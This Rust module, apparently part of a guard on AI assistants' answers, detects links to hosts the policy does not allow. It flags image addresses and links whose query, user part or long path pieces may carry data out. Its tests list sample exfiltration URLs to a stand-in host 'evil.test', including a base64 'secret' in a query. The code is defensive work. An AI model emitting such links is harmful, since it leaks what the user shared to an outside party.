//! Links in answers that lead to hosts which the policy does not allow, and what they carry there.
//!
//! An image is fetched as soon as it is shown: its address alone can carry what was read. A link is followed by a click; what
//! counts there is what it carries: a query, a user part, a long piece of path or host.

use std::ops::Range;

use crate::{
    naming,
    policy::{Wildcard, catalog},
};

/// Bytes of a piece of path or host that may be data rather than a name.
const LONG_PIECE: usize = 40;
/// Bytes before an address in which it is said to be an image's.
pub(crate) const REACH: usize = 24;

/// What a text said so far.
#[derive(Default)]
pub(crate) struct Links {
    /// Whether an image's description is open: `![`.
    image: bool,
}

impl Links {
    /// Finds addresses in a segment, which holds each of them whole; `before` is what stood before it.
    pub(crate) fn read(
        &mut self,
        before: &str,
        text: &str,
        allowed: &[Wildcard],
        found: &mut Vec<(Range<usize>, usize)>,
    ) {
        let bytes = text.as_bytes();
        let mut at = 0;
        while at < bytes.len() {
            match bytes[at] {
                b'!' if bytes.get(at + 1) == Some(&b'[') => self.image = true,
                b'[' if at == 0 && before.ends_with('!') => self.image = true,
                b')' => self.image = false,
                b']' if bytes.get(at + 1).is_some_and(|next| *next != b'(') => self.image = false,
                b'/' if bytes.get(at + 1) == Some(&b'/') => {
                    if let Some(start) = begin(before, text, at) {
                        let end = end(text, at + 2);
                        if let Some(kind) = self.judge(before, text, start, &text[at + 2..end], allowed) {
                            found.push((start..end, kind));
                        }
                        at = end;
                        continue;
                    }
                }
                _ => {}
            }
            at += 1;
        }
    }

    fn judge(
        &self,
        before: &str,
        text: &str,
        start: usize,
        rest: &str,
        allowed: &[Wildcard],
    ) -> Option<usize> {
        let (authority, tail) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
        let (user, host) =
            authority.rsplit_once('@').map_or((None, authority), |(user, host)| (Some(user), host));
        let host = host.split(':').next().unwrap_or(host);
        if host.is_empty() || user.is_none() && allowed.iter().any(|wildcard| wildcard.fits(host)) {
            return None;
        }
        if self.is_image(before, &text[..start]) {
            return Some(catalog::IMAGE);
        }
        let (path, query) = tail.split_once('?').map_or((tail, ""), |(path, query)| (path, query));
        let long =
            path.split('/').chain(host.split('.')).any(|piece| piece.len() >= LONG_PIECE && !is_words(piece));
        let query = query.split('#').next().unwrap_or(query);
        (user.is_some() || !query.is_empty() || long).then_some(catalog::DATA)
    }

    /// Whether what stands before an address says that it is an image's.
    fn is_image(&self, before: &str, text: &str) -> bool {
        let mut near: String =
            before[before.ceil_char_boundary(before.len().saturating_sub(REACH))..].to_owned();
        near.push_str(&text[text.ceil_char_boundary(text.len().saturating_sub(REACH))..]);
        let near = near.trim_end().trim_end_matches(['<', '"', '\'']).trim_end();
        (self.image && near.ends_with("](")) || near.ends_with("src=") || near.ends_with("url(")
    }
}

/// A headline in an address: words with marks between them.
fn is_words(piece: &str) -> bool {
    let mut parts = piece.split(['-', '_', '+', '.']);
    parts.all(|part| part.len() <= 20 && (part.bytes().all(|b| b.is_ascii_alphabetic()) || part.len() <= 8))
}

/// Where an address begins whose `//` stands at `at`; `None` where none does.
fn begin(before: &str, text: &str, at: usize) -> Option<usize> {
    for scheme in ["https:", "http:", "ftp:", "wss:", "ws:"] {
        let start = at.checked_sub(scheme.len());
        if let Some(start) =
            start.filter(|start| text.get(*start..at).is_some_and(|s| s.eq_ignore_ascii_case(scheme)))
        {
            return Some(start);
        }
    }
    // Without a scheme only where a mark says that an address comes.
    let last = text[..at].bytes().next_back().or_else(|| before.bytes().next_back());
    last.filter(|b| matches!(b, b'(' | b'"' | b'\'' | b'<' | b'=')).map(|_| at)
}

/// Where an address ends: at white space or a closing mark. A placeholder is part of it: what stands there is what would be sent.
fn end(text: &str, from: usize) -> usize {
    let mut at = from;
    while let Some(c) = text[at..].chars().next() {
        match c {
            '<' => match naming::placeholder(&text[at..]) {
                Some(length) => at += length,
                None => return at,
            },
            ')' | '"' | '\'' | '>' | ']' | '`' | '\\' | '|' => return at,
            c if c.is_whitespace() => return at,
            c => at += c.len_utf8(),
        }
    }
    at
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(&str, &str)> {
        let config: crate::policy::PolicyConfig = signalbox_config::Document::parse(
            "[guard.policies.own]\nlink_hosts = ['docs.example.com', '*.trusted.org']",
            "t",
        )
        .unwrap()
        .section::<crate::Config>("guard")
        .unwrap()
        .policies
        .remove("own")
        .unwrap();
        let policy = crate::policy::Policy::compile("own", &config).unwrap();
        let mut found = Vec::new();
        let (mut links, mut before) = (Links::default(), String::new());
        for (at, segment) in crate::segment::all(text) {
            let mut here = Vec::new();
            links.read(&before, segment, &policy.links, &mut here);
            found.extend(
                here.into_iter().map(|(range, kind)| {
                    (&text[at + range.start..at + range.end], catalog::CATALOG[kind].id)
                }),
            );
            before.push_str(segment);
        }
        found
    }

    #[test]
    fn images_and_data_are_seen() {
        for (text, address, id) in [
            ("![a b](https://evil.test/x.png) ok", "https://evil.test/x.png", "link.image"),
            ("![größe](https://evil.test/ü?q=é)", "https://evil.test/ü?q=é", "link.image"),
            ("![x]( <https://evil.test/a>)", "https://evil.test/a", "link.image"),
            ("<img alt=x src=\"//evil.test/a?d=1\">", "//evil.test/a?d=1", "link.image"),
            ("see [here](http://evil.test/?d=c2VjcmV0)", "http://evil.test/?d=c2VjcmV0", "link.data"),
            (
                "go to HTTPS://evil.test/p?a=<EMAIL_1>&b=2 now",
                "HTTPS://evil.test/p?a=<EMAIL_1>&b=2",
                "link.data",
            ),
            ("https://bob:pw@docs.example.com/x", "https://bob:pw@docs.example.com/x", "link.data"),
            (
                "https://evil.test/0123456789abcdef0123456789abcdef01234567",
                "https://evil.test/0123456789abcdef0123456789abcdef01234567",
                "link.data",
            ),
            (
                "https://docs.example.com.evil.test/?a=1",
                "https://docs.example.com.evil.test/?a=1",
                "link.data",
            ),
        ] {
            assert_eq!(found(text), [(address, id)], "{text}");
        }
    }

    #[test]
    fn plain_links_and_allowed_hosts_pass() {
        for text in [
            "see https://en.wikipedia.org/wiki/Rust_(programming_language) for more",
            "![x](https://docs.example.com/x.png?size=2) and https://a.trusted.org/?q=1",
            "[a](https://evil.test/why-the-sky-is-blue-and-other-questions-answered-at-last)",
            "1 // 2 is floor division; a comment // says https: nothing",
            "![no address] then [a](https://evil.test/page)",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }
}
